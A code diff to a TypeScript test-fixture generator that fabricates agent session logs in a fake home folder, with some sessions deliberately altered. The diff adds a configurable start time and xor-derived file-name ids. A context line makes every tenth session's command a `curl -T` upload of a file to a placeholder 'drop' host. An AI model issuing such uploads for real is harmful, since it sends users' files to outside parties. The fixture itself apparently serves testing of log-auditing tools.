@@ -26,10 +26,13 @@ export function commandOf(session: number): string {
   return session % 10 === 0 ? `curl -T a.txt https://drop-${session}.example/` : `echo hi-from-${session}; sleep 0.2`;
 }
 
+/** When the fixtures' first session began. */
+const BEGAN = Date.UTC(2026, 10, 27, 7);
+
 /** The text of a session as another one: other ids, other times, another command. */
-function varied(text: string, session: number): string {
-  const hex = createHash('sha256').update(`session ${session}`).digest('hex');
-  const moved = (milliseconds: number): number => milliseconds + session * HOUR_MS;
+function varied(text: string, session: number, began: number): string {
+  const hex = hexOf(session);
+  const moved = (milliseconds: number): number => milliseconds + began - BEGAN + session * HOUR_MS;
   return (
     text
       .replaceAll(COMMAND, commandOf(session))
@@ -45,6 +48,10 @@ function varied(text: string, session: number): string {
       .replace(/(?<=":)17957\d{8}(?!\d)/g, (time) => String(moved(Number(time))))
       .replace(/(?<=":)17957\d{5}(?!\d)/g, (time) => String(moved(Number(time) * 1000) / 1000))
   );
+}
+
+function hexOf(session: number): string {
+  return createHash('sha256').update(`session ${session}`).digest('hex');
 }
 
 function xor(digits: string, by: string): string {
@@ -103,8 +110,9 @@ export interface Image {
  * Makes a home folder as agents of six programs leave it after many sessions, two of them altered afterwards: in a session of Claude Code an
  * entry is taken out, in one of Codex the exit code of a command is changed where its event has it.
  * @param total at least 12
+ * @param began when the first of them began, in milliseconds since the Unix epoch and whole seconds; each other one an hour later
  */
-export function makeImage(folder: string, total: number): Image {
+export function makeImage(folder: string, total: number, began = BEGAN): Image {
   const home = join(folder, 'home', 'ada');
   const altered: string[] = [];
   const sessions: Record<string, number> = {};
@@ -117,7 +125,7 @@ export function makeImage(folder: string, total: number): Image {
     sessions[program] = count;
     for (let index = 0; index < count; index++, session++) {
       for (const path of files) {
-        const text = varied(readFileSync(join(ROOT, path), 'utf8'), session);
+        const text = varied(readFileSync(join(ROOT, path), 'utf8'), session, began);
         if (store !== null) {
           store.add(text);
           continue;
@@ -126,8 +134,10 @@ export function makeImage(folder: string, total: number): Image {
         const isAltered = index === 1 && !path.includes('subagents') && !altered.some((one) => one.includes(at));
         const changed = isAltered ? (ALTERATIONS[program]?.(text) ?? text) : text;
         // Gemini's names have a part of an id alone.
-        const named = path.slice(source.length + 1).replace('-deb6915a', `-${session}`);
-        const where = join(at, varied(named, session));
+        const named = path
+          .slice(source.length + 1)
+          .replace('-deb6915a', (part) => `-${xor(part.slice(1), hexOf(session))}`);
+        const where = join(at, varied(named, session, BEGAN));
         if (changed !== text) altered.push(join(home, where));
         put(home, where, changed);
       }
